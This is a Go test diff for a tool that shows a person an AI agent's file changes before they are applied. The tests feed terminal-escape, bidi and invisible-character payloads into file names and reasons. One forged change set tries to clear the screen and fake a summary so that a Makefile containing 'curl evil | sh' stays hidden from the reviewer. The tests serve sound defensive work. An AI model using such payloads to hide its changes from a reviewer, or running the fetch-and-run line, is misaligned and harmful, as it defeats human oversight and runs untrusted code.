@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/json"
 	"errors"
+	"fmt"
 
 	"os"
 	"path/filepath"
@@ -11,10 +12,12 @@ import (
 	"sync"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/creack/pty"
 
 	"github.com/vibedom/vibedom/overlay"
+	"github.com/vibedom/vibedom/termtext"
 )
 
 func write(t *testing.T, p, data string) {
@@ -48,6 +51,14 @@ type fixture struct {
 // delete).
 func newFixture(t *testing.T, base, agent map[string]string) fixture {
 	t.Helper()
+	return newForgedFixture(t, base, agent, nil)
+}
+
+// newForgedFixture is newFixture with the change set passed through forge
+// (as a guest whose agent binary was replaced could change it) and then
+// through the JSON and overlay.ParseChangeSet, as the session reads it.
+func newForgedFixture(t *testing.T, base, agent map[string]string, forge func(*overlay.ChangeSet)) fixture {
+	t.Helper()
 	root := t.TempDir()
 	f := fixture{home: filepath.Join(root, "home"), ws: filepath.Join(root, "ws")}
 	dir := filepath.Join(f.home, "sessions", "ws-1a2b")
@@ -75,6 +86,16 @@ func newFixture(t *testing.T, base, agent map[string]string) fixture {
 	cs, err := overlay.DiffTrees(f.ws, ag)
 	if err != nil {
 		t.Fatal(err)
+	}
+	if forge != nil {
+		forge(cs)
+		data, err := json.Marshal(cs)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if cs, err = overlay.ParseChangeSet(data); err != nil {
+			t.Fatal(err)
+		}
 	}
 	if _, err := overlay.WriteSessionPatch(t.Context(), dir, cs, overlay.DirSource(ag), nil); err != nil {
 		t.Fatal(err)
@@ -335,12 +356,183 @@ func TestTerminalInjection(t *testing.T) {
 	if strings.Contains(out.String(), "\u202e") {
 		t.Errorf("summary prints a bidi override raw:\n%s", out.String())
 	}
-	diff := ColorDiff(planText(pl), true)
-	if bytes.Contains(diff, []byte("\x1b]0;")) || bytes.Contains(diff, []byte("\x1b[2J")) || bytes.Contains(diff, []byte("\x07")) {
-		t.Errorf("diff passes escape sequences through:\n%q", diff)
+	if !strings.Contains(out.String(), `"x\u202egpj.exe"`) {
+		t.Errorf("summary does not show the bidi override escaped:\n%s", out.String())
 	}
-	if !bytes.Contains(diff, []byte("^[]0;pwned^G^[[2J")) {
-		t.Errorf("diff does not show the escapes visibly:\n%q", diff)
+	for _, color := range []bool{false, true} {
+		diff := ColorDiff(planText(pl), color)
+		assertTerminalSafe(t, string(diff))
+		if !bytes.Contains(stripStyles(diff), []byte(`a\x1b]0;pwned\x07\x1b[2J`)) {
+			t.Errorf("diff (color %v) does not show the escapes visibly:\n%q", color, diff)
+		}
+	}
+}
+
+// styles are the escape sequences review itself writes.
+var styles = []string{styleReset, styleBold, styleRed, styleGreen, styleYellow, styleCyan, styleReverse, styleNoReverse}
+
+func stripStyles(b []byte) []byte {
+	for _, s := range styles {
+		b = bytes.ReplaceAll(b, []byte(s), nil)
+	}
+	return b
+}
+
+// assertTerminalSafe fails when out, less review's own styles, holds
+// anything but printable text, newlines, carriage returns (a pty's) and
+// tabs: a control character, a C1 control as a code point or a byte, a
+// bidi control, a separator, an invisible character or invalid UTF-8.
+func assertTerminalSafe(t *testing.T, out string) {
+	t.Helper()
+	s := string(stripStyles([]byte(out)))
+	for i := 0; i < len(s); {
+		r, n := utf8.DecodeRuneInString(s[i:])
+		switch {
+		case r == utf8.RuneError && n == 1:
+			t.Errorf("raw byte %#x reaches the terminal at %d: %q", s[i], i, around(s, i))
+		case r == '\n' || r == '\r' || r == '\t' || termtext.Safe(r):
+		default:
+			t.Errorf("raw %U reaches the terminal at %d: %q", r, i, around(s, i))
+		}
+		i += n
+	}
+}
+
+func around(s string, i int) string {
+	return s[max(0, i-40):min(len(s), i+40)]
+}
+
+// hostileNames hold a character of every class the sanitizer escapes that a
+// valid change set path may hold (ValidatePath refuses C0 and DEL), and the
+// escape the user must see.
+var hostileNames = map[string]string{
+	"c1-\u009b31mred.txt":        `c1-\u009b31mred.txt`,
+	"nel-\u0085x.txt":            `nel-\u0085x.txt`,
+	"rlo-\u202etxt.exe":          `rlo-\u202etxt.exe`,
+	"lri-\u2066x\u2069.txt":      `lri-\u2066x\u2069.txt`,
+	"lrm-\u200e\u200f\u061c.txt": `lrm-\u200e\u200f\u061c.txt`,
+	"ls-\u2028ps-\u2029.txt":     `ls-\u2028ps-\u2029.txt`,
+	"zw-\u200b\u200d\ufeff.txt":  `zw-\u200b\u200d\ufeff.txt`,
+	"tag-\U000e0041.txt":         `tag-\U000e0041.txt`,
+	"hangul-\u3164.txt":          `hangul-\u3164.txt`,
+}
+
+// hostileText holds every class, C0 and invalid UTF-8 included.
+const hostileText = "esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009b c1byte\x9b\x9d bad\xff rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041\n"
+
+// TestHostileNamesOnTerminal drives the prompt on a pseudo-terminal through
+// the summary, the diff in the pager, a conflict and the apply report with
+// names, a not-carried reason and contents holding every class of
+// character: nothing reaches the terminal raw, and each shows as an escape.
+func TestHostileNamesOnTerminal(t *testing.T) {
+	agent := map[string]string{"conflict.txt": "1\nagent " + hostileText}
+	for name := range hostileNames {
+		agent[name] = hostileText
+	}
+	f := newForgedFixture(t, map[string]string{"conflict.txt": "1\n2\n"}, agent, func(cs *overlay.ChangeSet) {
+		cs.Changes = append(cs.Changes, overlay.Change{Path: "skip-\x1b[2J\u009b\u202e", Op: overlay.OpSkip, Type: overlay.TypeSpecial, Reason: "reason " + hostileText})
+	})
+	write(t, filepath.Join(f.ws, "conflict.txt"), "1\nmine\n")
+	tm, tty := newTerm(t)
+	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
+	sum := tm.expect("[d]iscard? ")
+	for _, esc := range hostileNames {
+		if !strings.Contains(sum, esc) {
+			t.Errorf("summary does not show %s", esc)
+		}
+	}
+	wantReason := `"reason esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009b c1byte` + "\ufffd\ufffd bad\ufffd" + ` rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041\n"`
+	if !strings.Contains(sum, `"skip-\x1b[2J\u009b\u202e"  `+wantReason) {
+		t.Errorf("summary does not show the not-carried entry escaped (want %s):\n%s", wantReason, sum)
+	}
+	tm.send("r")
+	diff := tm.expect("[d]iscard? ")
+	if !strings.Contains(string(stripStyles([]byte(diff))), `esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009b c1byte\x9b\x9d bad\xff rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041`) {
+		t.Errorf("the diff does not show the content's escapes:\n%q", diff)
+	}
+	tm.send("a")
+	tm.expect("[v]iew? ")
+	tm.send("v")
+	tm.expect("[v]iew? ")
+	tm.send("m")
+	r := wait(t, done)
+	if r.err != nil || r.out != Applied {
+		t.Fatalf("got %v %v, want applied", r.out, r.err)
+	}
+	tm.expect("vibedom undo")
+	tm.mu.Lock()
+	all := tm.buf.String()
+	tm.mu.Unlock()
+	assertTerminalSafe(t, all)
+	for _, esc := range hostileNames {
+		if strings.Count(all, esc) < 2 { // summary and apply report; the diff has git's quoting
+			t.Errorf("%s shown %d times, want it in the summary and the report", esc, strings.Count(all, esc))
+		}
+	}
+}
+
+// TestForgedChangeSetCannotHideFiles is the attack of issue 9: a forged
+// change set puts "clear the screen, home the cursor" and a fake one-line
+// summary in a not-carried reason. The sequences show as escapes, and the
+// Makefile and the CI workflow "apply all" would write are listed after it,
+// flagged, just above the prompt.
+func TestForgedChangeSetCannotHideFiles(t *testing.T) {
+	fake := "\x1b[2J\x1b[3J\x1b[HThe agent changed: 0 added, 1 modified, 0 deleted, +1 −0 lines\n\n    1  M  README.md  +1 −0\n"
+	f := newForgedFixture(t, map[string]string{"README.md": "r\n"},
+		map[string]string{"README.md": "r2\n", "Makefile": "all:\n\tcurl evil | sh\n", ".github/workflows/ci.yml": "on: push\n"},
+		func(cs *overlay.ChangeSet) {
+			cs.Changes = append(cs.Changes, overlay.Change{Path: "dev/null-ish", Op: overlay.OpSkip, Type: overlay.TypeSpecial, Reason: fake})
+		})
+	tm, tty := newTerm(t)
+	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
+	sum := tm.expect("[d]iscard? ")
+	assertTerminalSafe(t, sum)
+	plain := string(stripStyles([]byte(sum)))
+	if !strings.Contains(plain, `\x1b[2J\x1b[3J\x1b[HThe agent changed`) {
+		t.Errorf("the forged reason's escapes are not shown:\n%s", plain)
+	}
+	after := plain[strings.LastIndex(plain, `\x1b[H`):]
+	for _, want := range []string{"Flagged", "Makefile", ".github/workflows/ci.yml", "3 files: 2 added, 1 modified", "2 flagged"} {
+		if !strings.Contains(after, want) {
+			t.Errorf("after the forged reason, above the prompt, %q is missing:\n%s", want, after)
+		}
+	}
+	tm.send("k")
+	if r := wait(t, done); r.out != Kept {
+		t.Fatalf("got %v %v, want kept", r.out, r.err)
+	}
+}
+
+// TestFlaggedStayNextToPrompt: with 5,000 files the flagged paths and the
+// totals are still on the screen above the prompt, the first time and after
+// the diff was paged.
+func TestFlaggedStayNextToPrompt(t *testing.T) {
+	agent := map[string]string{"Makefile": "all:\n", ".github/workflows/ci.yml": "on: push\n", "README.md": "r2\n"}
+	for i := range 5000 {
+		agent[fmt.Sprintf("gen/f%04d.txt", i)] = "x\n"
+	}
+	f := newFixture(t, map[string]string{"README.md": "r\n"}, agent)
+	tm, tty := newTerm(t)
+	done := runOnTTY(t, Options{Apply: f.options()}, tty)
+	screen := func(out string) string { // the last 20 lines, a small terminal's worth
+		lines := strings.Split(strings.ReplaceAll(out, "\r\n", "\n"), "\n")
+		return strings.Join(lines[max(0, len(lines)-20):], "\n")
+	}
+	check := func(when, out string) {
+		t.Helper()
+		scr := screen(out)
+		for _, want := range []string{"Flagged", "Makefile", ".github/workflows/ci.yml", "5003 files: 5002 added, 1 modified, 0 deleted; 2 flagged"} {
+			if !strings.Contains(scr, want) {
+				t.Errorf("%s: %q is not on the screen above the prompt:\n%s", when, want, scr)
+			}
+		}
+	}
+	check("summary", tm.expect("[d]iscard? "))
+	tm.send("r")
+	check("after the diff", tm.expect("[d]iscard? "))
+	tm.send("k")
+	if r := wait(t, done); r.out != Kept {
+		t.Fatalf("got %v %v, want kept", r.out, r.err)
 	}
 }
 
